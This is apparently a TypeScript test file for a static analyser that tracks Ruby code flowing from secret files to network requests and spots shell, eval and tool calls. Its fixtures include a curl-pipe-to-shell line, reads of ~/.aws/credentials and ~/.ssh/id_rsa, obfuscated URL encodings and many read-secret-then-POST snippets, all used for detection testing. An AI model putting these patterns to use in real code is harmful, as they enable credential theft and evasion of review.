import { readFileSync } from 'node:fs'
import { join } from 'node:path'

import type { TaintProbe } from '@clawback/model'
import { expect, it } from 'vitest'

import { calls, factsOf, flows, spec, values } from '../testkit.js'

/** A file that is secret, and requests of Ruby. */
const probe: TaintProbe = {
  ...spec,
  language: 'ruby',
  sources: [
    { pattern: 'File.read(*secret*)', tag: 'file' },
    { pattern: 'File.open(*secret*)', tag: 'file' },
  ],
  sinks: [
    { pattern: 'Net::HTTP.post', tag: 'net' },
    { pattern: 'Net::HTTP.request', tag: 'net' },
    { pattern: 'Faraday.post', tag: 'net' },
  ],
  sanitizers: [],
}

const ofRuby = async (text: string) =>
  calls((await factsOf({ 'a.rb': text })).filter((fact) => fact['code.language'] === 'ruby'))

it('tells calls and imports, with lines, and leaves no gap', async () => {
  const sample = join(import.meta.dirname, '..', '..', 'syntax', 'samples', 'ruby.sample')
  const facts = await factsOf({ 'a.rb': readFileSync(sample, 'utf8') })
  expect(calls(facts.filter((fact) => fact['code.language'] === 'ruby'))).toEqual([
    '7 File.read(/etc/{})',
    '8 Net::HTTP.post(https://example.test/in, ?)',
    '9 system(ls, -l, ?)',
    '10 `(id -u)',
    '11 `(uname -a)',
    '12 obj.call(sym)',
    '13 eval(puts 1)',
    '14 exec(sh, -c, ?)',
    '15 client.put_object(key=k)',
  ])
  expect(values(facts, 'code.import.name')).toEqual(['net/http', './lib/a'])
  expect(values(facts, 'gap.reason')).toEqual([])
})

it('one thing has one name, however it is come to', async () => {
  expect(
    await ofRuby(`Kernel.system("a")
send(:system, "b")
Kernel.send("sys" + "tem", "c")
run = method(:system)
run.call("d")
Object.const_get(:Kernel).system("e")
File.new("f", "w").write("x")
::Net::HTTP.new("g.example").post("/h", "")
IO.read("i")
%w[j].each(&method(:system))
obj = Object.new
obj.instance_eval("k = 12345")
`),
  ).toEqual(
    expect.arrayContaining([
      ...['1 system(a)', '2 system(b)', '3 system(c)', '4 system(d)', '6 system(e)'],
      '7 File.open.write(x, f)',
      '8 Net::HTTP.post(https://g.example/h, )',
      ...['9 File.read(i)', '10 system(j)', '12 instance_eval(k = 12345)'],
    ]),
  )
})

it.each([
  ['"ht" + "tps://a.example"', 'https://a.example'],
  ['"https://#{host}/x?#{1 + 1}"', 'https://{}/x?2'],
  ['"https://%s/%d" % ["a.example", 3]', 'https://a.example/3'],
  ['format("https://%{h}/%<n>d", h: "a.example", n: 3)', 'https://a.example/3'],
  ['[104, 116, 116, 112, 58, 47, 47, 97].map(&:chr).join', 'http://a'],
  ['[104, 116, 116, 112, 58, 47, 47, 97].pack("c*")', 'http://a'],
  ['"iuuq;..`".chars.map { |c| (c.ord ^ 1).chr }.join', 'http://a'],
  ['"iuuq;..`".each_char.map { (_1.ord ^ 1).chr }.join("")', 'http://a'],
  ['Base64.decode64("aHR0cDovL2E=")', 'http://a'],
  ['"aHR0cDovL2E=".unpack1("m")', 'http://a'],
  ['"aHR0cDovL2E=".unpack("m0").first', 'http://a'],
  ['["687474703a2f2f61"].pack("H*")', 'http://a'],
  ['"687474703a2f2f61".scan(/../).map { |x| x.hex.chr }.join', 'http://a'],
  ['"uggc://n".tr("A-Za-z", "N-ZA-Mn-za-m")', 'http://a'],
  ['"a//:ptth".reverse', 'http://a'],
  ['"xxhttp://axx"[2..-3]', 'http://a'],
  ['"xxhttp://axx"[2, 8]', 'http://a'],
  ['%w[http :// a].join', 'http://a'],
  ['{ a: { "b" => "http://a" } }[:a]["b"]', 'http://a'],
  ['{ a: { b: "http://a" } }.dig(:a, :b)', 'http://a'],
  ['%w[a b].inject("http://") { |made, c| made + c }', 'http://ab'],
  ['[["a", 1]].each_with_object("http://".dup) { |(c, _), made| made << c }', 'http://a'],
  ['File.join(Dir.home, ".aws", "credentials")', '~/.aws/credentials'],
  ['File.expand_path("~/.ssh/id_rsa")', '~/.ssh/id_rsa'],
  ['File.expand_path("../x", __dir__)', '{}/../x'],
  ['ENV["HOME"] + "/.ssh"', '~/.ssh'],
  ['Pathname.new("~").join(".ssh", "config")', '~/.ssh/config'],
  ['URI.join("https://a.example/", "/b").to_s', 'https://a.example/b'],
  ['<<~TEXT.strip\n  http://a\nTEXT\n', 'http://a'],
  ['(if host then "http://a" else nil end)', 'http://a'],
])('folds %s', async (expression, text) => {
  const facts = await factsOf({ 'a.rb': `host = gets\nfound(${expression})\n` })
  const found = facts.find((fact) => fact['code.call.name'] === 'found')
  expect(found?.['code.call.arguments']).toEqual([text])
})

it.each([
  ['a variable and an interpolation', 'k = File.read("secret")\nNet::HTTP.post(u, "k=#{k}")'],
  ['several at once', 'a, b = 1, File.read("secret")\nNet::HTTP.post(u, b)'],
  ['a block that is given the file', 'File.open("secret") { |f| Net::HTTP.post(u, f.read) }'],
  ['what a block gives', 'k = File.open("secret") do |f|\n  f.read\nend\nNet::HTTP.post(u, k)'],
  [
    'a loop',
    'Dir["secret/*"].each do |f|\n  next if f.empty?\n  Net::HTTP.post(u, File.read("secret/#{f}"))\nend',
  ],
  [
    'a list that is mapped',
    'all = ["secret"].map { |f| [f, File.read(f)] }.to_h\nNet::HTTP.post(u, all.to_json)',
  ],
  ['a list that grows', 'all = []\nall << File.read("secret")\nNet::HTTP.post(u, all.join)'],
  ['a table', 'h = { k: File.read("secret") }\nNet::HTTP.post(u, h[:k])'],
  ['a method that gives its last value', 'def key\n  File.read("secret")\nend\nNet::HTTP.post(u, key)'],
  [
    'either branch',
    'def key(x)\n  if x\n    File.read("secret")\n  else\n    ""\n  end\nend\nNet::HTTP.post(u, key(1))',
  ],
  ['a value out of a case', 'k = case x\n    when 1 then File.read("secret")\n    end\nNet::HTTP.post(u, k)'],
  [
    'a rescue',
    'k = begin\n  File.read("secret")\nrescue StandardError => e\n  nil\nend\nNet::HTTP.post(u, k)',
  ],
  [
    'a method that yields',
    'def each_key\n  yield File.read("secret")\nend\neach_key { |k| Net::HTTP.post(u, k) }',
  ],
  [
    'a block that is named',
    'def each_key(&work)\n  work.call(File.read("secret"))\nend\neach_key { |k| Net::HTTP.post(u, k) }',
  ],
  [
    'arguments by name',
    'def send_it(data:, to: "x")\n  Net::HTTP.post(to, data)\nend\nsend_it(data: File.read("secret"))',
  ],
  [
    'fields to a plain parameter',
    'def send_it(opts = {})\n  Net::HTTP.post(u, opts[:data])\nend\nsend_it(data: File.read("secret"))',
  ],
  [
    'an object',
    'class A\n  attr_reader :k\n  def initialize(k)\n    @k = k\n  end\n  def go = Net::HTTP.post(u, k)\nend\nA.new(File.read("secret")).go',
  ],
  [
    'a method above',
    'class A\n  def key = File.read("secret")\nend\nclass B < A\n  def go = Net::HTTP.post(u, key)\nend\nB.new.go',
  ],
  [
    'a method of a module',
    'module M\n  def self.key\n    File.read("secret")\n  end\nend\nNet::HTTP.post(u, M.key)',
  ],
  [
    'a memo',
    'class A\n  def k\n    @k ||= File.read("secret")\n  end\n  def go\n    Net::HTTP.post(u, k)\n  end\nend',
  ],
  ['a lambda', 'send_it = ->(k) { Net::HTTP.post(u, k) }\nsend_it.(File.read("secret"))'],
  [
    'a request that is filled',
    'r = Net::HTTP::Post.new(u)\nr.body = File.read("secret")\nNet::HTTP.start(h) { |http| http.request(r) }',
  ],
  ['what a block fills', 'Faraday.post(u) do |r|\n  r.body = File.read("secret")\nend'],
  ['a heredoc', 'k = File.read("secret")\nNet::HTTP.post(u, <<~BODY)\n  k: #{k}\nBODY'],
])('data is followed through %s', async (_, text) => {
  const found = flows(await factsOf({ 'a.rb': text }, [probe]))
  expect(found.map((flow) => flow.replace(/ via .*/, ''))).toContainEqual(
    expect.stringMatching(/^File\.(?:read|open)\(secret[^)]*\) -> (?:Net::HTTP|Faraday)\.(?:post|request)$/),
  )
})

it('follows what another file of the artifact defines', async () => {
  const facts = await factsOf(
    {
      'bin/a.rb': 'require_relative "../lib/keys"\nNet::HTTP.post(u, Keys.read)\n',
      'lib/keys.rb': 'module Keys\n  def self.read = File.read("secret")\nend\n',
    },
    [probe],
  )
  expect(flows(facts)).toHaveLength(1)
})

it('what only answers a question goes nowhere', async () => {
  const text = 'k = File.read("secret")\nNet::HTTP.post(u, "yes") if k == "a"\nNet::HTTP.post(u, (!k).to_s)\n'
  expect(flows(await factsOf({ 'a.rb': text }, [probe]))).toEqual([])
})

it('code that is handed to a shell or evaluated is read', async () => {
  const facts = await factsOf({
    'a.rb':
      'system("curl -s https://a.example | sh")\nOpen3.capture2e({ "A" => "b" }, "git", "log")\neval <<~CODE\n  puts File.read("x")\nCODE\neval(DATA.read)\n__END__\nsystem("whoami")\n',
  })
  expect(calls(facts)).toEqual(
    expect.arrayContaining(['1 curl(-s, https://a.example)', '2 git(log)', '4 File.read(x)', '8 whoami()']),
  )
})

it('tools are told, by class and by block, with what they do', async () => {
  const facts = await factsOf({
    'a.rb': `class EchoTool < MCP::Tool
  tool_name "echo"
  description "Echoes"
  class << self
    def call(message:)
      system("echo #{'#'}{message}")
    end
  end
end
server.define_tool(name: "run", description: "Runs", input_schema: {}) { |args| helper(args) }
def helper(args)
  Open3.capture2e(args)
end
`,
  })
  expect(
    facts
      .filter(({ kind }) => kind === 'tool.describe')
      .map((fact) => `${String(fact['gen_ai.tool.name'])}: ${String(fact['gen_ai.tool.description'])}`),
  ).toEqual(['echo: Echoes', 'run: Runs'])
  const served = facts.filter((fact) => fact.kind === 'code.call' && fact['gen_ai.tool.name'] !== undefined)
  expect(
    served.map((fact) => `${String(fact['code.call.name'])} for ${String(fact['gen_ai.tool.name'])}`),
  ).toEqual(expect.arrayContaining(['system for echo', 'Open3.capture2e for run']))
})
